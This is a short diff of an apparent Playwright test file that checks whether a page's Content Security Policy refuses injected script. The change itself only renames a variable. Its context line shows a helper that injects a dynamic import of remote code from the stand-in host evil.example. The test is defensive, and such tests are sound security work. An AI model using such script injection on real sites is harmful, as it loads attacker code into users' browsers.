@@ -18,7 +18,7 @@ const plantScript = (page: Page) => page.evaluate("import('https://evil.example/
 
 /** Takes out what a test has planted: header and tag have each refused it. */
 async function expectRefused(page: Page, violations: string[], words: RegExp): Promise<void> {
-  await expect.poll(() => violations.filter((one) => words.test(one))).toHaveLength(2);
+  await expect.poll(() => violations.filter((violation) => words.test(violation))).toHaveLength(2);
   // What the console says of it has come when the page answers again.
   await page.evaluate(() => undefined);
   violations.splice(0);
